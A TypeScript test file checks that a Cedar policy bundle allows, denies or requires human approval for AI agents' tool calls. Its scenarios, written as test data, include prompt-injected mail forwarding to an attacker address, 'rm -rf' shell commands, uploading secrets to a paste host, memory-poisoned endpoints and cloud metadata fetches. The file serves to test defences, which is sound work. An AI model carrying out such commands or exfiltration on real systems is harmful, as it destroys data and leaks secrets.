import * as cedar from "@cedar-policy/cedar-wasm/nodejs";
import { describe, expect, it } from "vitest";
import { capabilityForTool } from "@/engine/policy/bundle";
import { cedarRequestFor } from "@/engine/evaluate";
import type { Provenance } from "@/engine/events/schema";
import { CedarAuthorizer, parseCedarPolicies, type CedarAuthorizeRequest } from "@/engine/policy/cedar";
import { defaultBundle, loadBundle } from "@/engine/policy/load-bundle";
import { defaultBundleFiles } from "@/engine/policy/default-bundle/files";
import { demoData } from "@/lib/demo/demo-data";

/**
 * The shipped bundle decides the spec's scenarios (v1.0 §3 threat classes, v0.1 §8 worked example) as intended,
 * and stays in step with the demo data that claims to have been decided under it.
 */

const bundle = defaultBundle();
const authorizer = new CedarAuthorizer(bundle);

type Prov = { source_type: string; trust_level: string };
type Opts = { guard?: boolean; environment?: string };

/**
 * The request evaluate() would send for this step, built by the engine's own cedarRequestFor: the scenario only
 * chooses the agent, tool, arguments, provenance and the guard's verdict (a signal scores 0.8, below block).
 * Agents and tools the bundle does not know get empty attributes, so the whole-set comparison covers them too.
 */
function requestFor(agentId: string, tool: string, args: unknown, provenance: Prov[], opts: Opts = {}): CedarAuthorizeRequest {
  const grant = bundle.agents[agentId];
  const cap = capabilityForTool(bundle, tool);
  return cedarRequestFor({
    agent: { id: agentId, trust_level: grant?.trust_level ?? "unverified", environment: opts.environment ?? grant?.environment ?? "production", owner: grant?.owner ?? "" },
    tool, capability: cap?.name ?? "", access: cap?.capability.access ?? "read", index: 1,
    arguments: args, provenance: provenance as Provenance[],
    guard: { flagged: opts.guard ?? false, score: opts.guard ? 0.8 : 0 },
    stepRisk: 0.5, rTotal: 1, internalDomains: bundle.internal_domains,
  });
}

const ask = (agentId: string, tool: string, args: unknown, provenance: Prov[], opts: Opts = {}) => authorizer.authorize(requestFor(agentId, tool, args, provenance, opts));

const internalPrompt = { source_type: "user_prompt", trust_level: "internal" };
const crmRecord = { source_type: "tool_result", trust_level: "internal" };

describe("default bundle", () => {
  it("loads with a report", () => {
    const r = loadBundle(defaultBundleFiles());
    expect(r.ok && r.report[0]).toMatch(/^Bundle default for production: \d+ capabilities/);
  });

  it("treats the organisation's domain as internal", () => {
    expect(bundle.internal_domains).toEqual(["example.com"]);
  });

  it("carries the worked example's grants, thresholds and budgets for crm-sync", () => {
    const crm = bundle.agents["crm-sync"];
    expect(crm.thresholds).toEqual({ approval: 1.2, halt: 2.0 });
    expect(crm.budgets).toEqual({ max_write_operations: 10 });
    expect(capabilityForTool(bundle, "db.read")).toMatchObject({ name: "crm.read", capability: { r_step: 0.2, access: "read" } });
    expect(capabilityForTool(bundle, "send_email")).toMatchObject({ name: "notify.external", capability: { r_step: 0.4, access: "outbound" } });
    expect(capabilityForTool(bundle, "db.write")).toMatchObject({ name: "crm.write", capability: { r_step: 0.5, access: "write" } });
  });

  it("worked example: read allowed, external quote email allowed only with approval, write allowed", () => {
    expect(ask("crm-sync", "db.read", { table: "contacts", customer_id: "CUST-20417" }, [internalPrompt])).toMatchObject({
      decision: "allow", requireApproval: false, determining: ["permit-crm-sync-crm-read"],
    });
    const email = ask("crm-sync", "send_email", { to: "procurement@globex-partners.example", subject: "Your renewal quote Q-2291", attachment: "quote-Q-2291.pdf" }, [
      crmRecord, { source_type: "retrieval_chunk", trust_level: "external" },
    ]);
    expect(email).toMatchObject({ decision: "allow", requireApproval: true, determining: ["permit-crm-sync-notify-external", "approval-external-email"] });
    expect(email.reasons[1]).toMatch(/outside the organisation/);
    expect(ask("crm-sync", "db.write", { table: "contacts", set: { renewal_stage: "quote_sent" } }, [crmRecord])).toMatchObject({ decision: "allow", requireApproval: false });
  });

  it("benign look-alike: an internal email stays allowed without approval", () => {
    const d = ask("crm-sync", "send_email", { to: "m.okafor@example.com", subject: "Quote Q-2291 sent — confidential pricing inside" }, [internalPrompt, crmRecord]);
    expect(d).toMatchObject({ decision: "allow", requireApproval: false, determining: ["permit-crm-sync-notify-external"] });
  });

  it("§3.1 prompt injection: forwarding mail to an address from a flagged article is forbidden", () => {
    const article = { source_type: "retrieval_chunk", trust_level: "unverified" };
    const args = { ticket_id: 48731, to: "attacker@external-mail.example", include_thread: true };
    const d = ask("support-triage", "email.forward", args, [article], { guard: true });
    expect(d.decision).toBe("deny");
    expect(d.determining).toEqual(["forbid-guard-injection-hit", "forbid-external-send-from-untrusted-context"]);
    // even if the guard missed it, the destination only appears in untrusted content
    expect(ask("support-triage", "email.forward", args, [article]).determining).toEqual(["forbid-external-send-from-untrusted-context"]);
  });

  it("benign look-alike: a refund confirmation to the customer who wrote the ticket stays allowed", () => {
    const ticket = { source_type: "user_prompt", trust_level: "external" };
    expect(ask("support-triage", "email.send", { to: "lena.kowalski@contoso.example", template: "refund-confirmation" }, [ticket])).toMatchObject({
      decision: "allow", requireApproval: false, determining: ["permit-support-triage-notify-customer"],
    });
  });

  it("§3.2 tool abuse: a shell command after untrusted input is forbidden; without a grant nothing permits it anyway", () => {
    const logs = { source_type: "tool_result", trust_level: "external" };
    expect(ask("devops-runner", "shell.exec", { host: "build-node-3", command: "rm -rf /tmp/*" }, [logs])).toMatchObject({
      decision: "deny", determining: ["forbid-shell-after-untrusted-input"],
    });
    expect(ask("devops-runner", "shell.exec", { command: "ls" }, [internalPrompt])).toMatchObject({ decision: "deny", determining: [] });
  });

  it("§3.3 memory poisoning: posting to an endpoint taken from unverified memory is forbidden", () => {
    const memory = { source_type: "memory", trust_level: "unverified" };
    const d = ask("research-assistant", "http.post", { url: "https://api.billify-support.example.net/v2/usage", body: { note: "usage sync" } }, [internalPrompt, memory]);
    expect(d.decision).toBe("deny");
    expect(d.determining).toEqual(["forbid-destination-from-memory", "forbid-egress-outside-allowlist"]);
  });

  it("benign look-alike: reading a public page from untrusted search results stays allowed", () => {
    const page = { source_type: "retrieval_chunk", trust_level: "external" };
    expect(ask("research-assistant", "web.fetch", { url: "https://www.vendor01.example/pricing" }, [page])).toMatchObject({ decision: "allow", requireApproval: false });
  });

  it("§3.5 data exfiltration: uploading a secret to an outside host is forbidden; an ordinary upload needs approval", () => {
    const args = { url: "https://paste.example-share.net/api/upload", files: ["stripe-secret.env", "customers-2026-11.csv"], size_mb: 48 };
    const d = ask("devops-runner", "http.upload", args, [internalPrompt, { source_type: "tool_result", trust_level: "internal" }]);
    expect(d).toMatchObject({ decision: "deny", determining: ["forbid-secrets-in-egress", "forbid-egress-outside-allowlist"] });
    expect(ask("devops-runner", "http.upload", { url: "https://upload.partner-portal.example/api", files: ["build-report.html"] }, [internalPrompt])).toMatchObject({
      decision: "allow", requireApproval: true, determining: ["permit-devops-runner-web-write", "approval-external-http-write"],
    });
    expect(ask("devops-runner", "http.upload", { url: "https://upload.partner-portal.example/api", files: ["stripe-secret.env"] }, [internalPrompt]).determining).toEqual(["forbid-secrets-in-egress"]);
  });

  it("§3.5: credentials in arguments do not go to an outside host, even an allowlisted one; internal calls are fine", () => {
    const args = { url: "https://upload.partner-portal.example/v2/usage", body: { api_key: "sk_live_x" } };
    expect(ask("research-assistant", "http.post", args, [internalPrompt]).determining).toEqual(["forbid-credentials-in-arguments"]);
    expect(ask("research-assistant", "http.post", { ...args, url: "https://metrics.example.com/v2/usage" }, [internalPrompt])).toMatchObject({ decision: "allow", requireApproval: false });
  });

  it("posts and uploads go only to internal or allowlisted hosts", () => {
    expect(ask("devops-runner", "http.post", { url: "https://paste.example-share.net/api", body: "build log" }, [internalPrompt])).toMatchObject({
      decision: "deny", determining: ["forbid-egress-outside-allowlist"],
    });
  });

  it("§3.5: content marked confidential does not leave; the same text internally is fine", () => {
    const args = { to: "partner@globex-partners.example", body: "CONFIDENTIAL: contract terms for Q-2291" };
    expect(ask("crm-sync", "send_email", args, [internalPrompt]).determining).toEqual(["forbid-confidential-to-external"]);
    expect(ask("crm-sync", "send_email", { ...args, to: "legal@example.com" }, [internalPrompt]).decision).toBe("allow");
  });

  it("forbids cloud metadata addresses", () => {
    expect(ask("research-assistant", "web.fetch", { url: "http://169.254.169.254/latest/meta-data/" }, [internalPrompt])).toMatchObject({
      decision: "deny", determining: ["forbid-link-local-and-metadata-addresses"],
    });
  });

  it("money, production restarts and public posts need a person", () => {
    expect(ask("finance-ops", "payments.create_transfer", { vendor_id: "V-1", amount_eur: 2400 }, [internalPrompt])).toMatchObject({ decision: "allow", requireApproval: true });
    expect(ask("devops-runner", "k8s.rollout_restart", { namespace: "staging", deployment: "api" }, [internalPrompt])).toMatchObject({ decision: "allow", requireApproval: true });
    expect(ask("devops-runner", "statuspage.create_incident", { status: "investigating" }, [internalPrompt])).toMatchObject({ decision: "allow", requireApproval: true });
  });

  it("an unverified agent may only read outside the sandbox", () => {
    expect(ask("research-assistant", "memory.write", { key: "x" }, [internalPrompt], { environment: "production" })).toMatchObject({
      decision: "deny", determining: ["forbid-unverified-agents-outside-sandbox"],
    });
    expect(ask("research-assistant", "memory.write", { key: "x" }, [internalPrompt])).toMatchObject({ decision: "allow" });
  });

  it("denies an agent that calls a tool of a capability it does not hold", () => {
    expect(ask("research-assistant", "db.read", { table: "contacts" }, [internalPrompt])).toMatchObject({ decision: "deny", determining: [] });
    expect(ask("unknown-agent", "db.read", { table: "contacts" }, [internalPrompt])).toMatchObject({ decision: "deny", determining: [] });
  });

  it("permits every granted tool in a plain internal context, and nothing ungranted", () => {
    for (const [agent, grant] of Object.entries(bundle.agents)) {
      for (const [capName, cap] of Object.entries(bundle.capabilities)) {
        for (const tool of cap.tools) {
          const d = ask(agent, tool, { ref: "R-1" }, [internalPrompt]);
          expect([agent, tool, d.decision]).toEqual([agent, tool, grant.capabilities.includes(capName) ? "allow" : "deny"]);
        }
      }
    }
  });

  it("decides exactly as the whole policy set would (pruned per-request sets and attributes change nothing)", () => {
    const { policies } = parseCedarPolicies(bundle.cedar.policies);
    const all = Object.fromEntries(policies.map((p) => [p.id, p.text]));
    expect(cedar.preparsePolicySet("test-default-bundle-unsplit", { staticPolicies: all }).type).toBe("success");
    const contexts: Array<[Prov[], Record<string, unknown>, Opts]> = [
      [[internalPrompt], { ref: 1 }, {}],
      [[internalPrompt], { to: "colleague@example.com", note: "CONFIDENTIAL" }, {}],
      [[{ source_type: "retrieval_chunk", trust_level: "unverified" }], { to: "x@evil.example" }, { guard: true }],
      [[{ source_type: "memory", trust_level: "unverified" }], { url: "https://evil.example/secret" }, {}],
      [[{ source_type: "user_prompt", trust_level: "external" }], { url: "http://169.254.169.254/latest", command: "rm -rf /" }, { environment: "production" }],
    ];
    const tools = [...Object.values(bundle.capabilities).flatMap((c) => c.tools), "shell_exec", "bash", "not.a.tool"];
    let compared = 0;
    for (const agent of [...Object.keys(bundle.agents), "stranger"]) {
      for (const tool of tools) {
        for (const [prov, args, opts] of contexts) {
          const req = requestFor(agent, tool, args, prov, opts);
          const ours = authorizer.authorize(req);
          // every policy, every attribute
          const whole = cedar.statefulIsAuthorized({ ...authorizer.wholeSetCall(req), preparsedPolicySetId: "test-default-bundle-unsplit" });
          if (whole.type !== "success") throw new Error("cedar failed");
          expect(whole.response.diagnostics.errors).toEqual([]);
          expect([agent, tool, ours.decision, [...ours.determining].sort()]).toEqual([agent, tool, whole.response.decision, [...whole.response.diagnostics.reason].sort()]);
          compared++;
        }
      }
    }
    expect(compared).toBeGreaterThan(1500);
  });
});

describe("default bundle and the demo data", () => {
  const demo = demoData(new Date("2026-11-21T12:00:00Z"));

  it("defines every demo agent with the same owner, trust level and environment", () => {
    for (const a of demo.agents) {
      expect(bundle.agents[a.id], a.id).toMatchObject({ owner: a.owner, trust_level: a.trustLevel, environment: a.environment });
    }
    expect(Object.keys(bundle.agents).sort()).toEqual(demo.agents.map((a) => a.id).sort());
  });

  it("knows every tool the demo scenarios plan (the engine, not the demo, decides whether it is granted)", () => {
    const tools = new Set(demo.scenarios.flatMap((sc) => sc.plans.flatMap((p) => p.steps.map((st) => st.tool))));
    expect(tools.size).toBeGreaterThan(30);
    for (const tool of tools) expect(capabilityForTool(bundle, tool)?.name, tool).toBeDefined();
  });
});
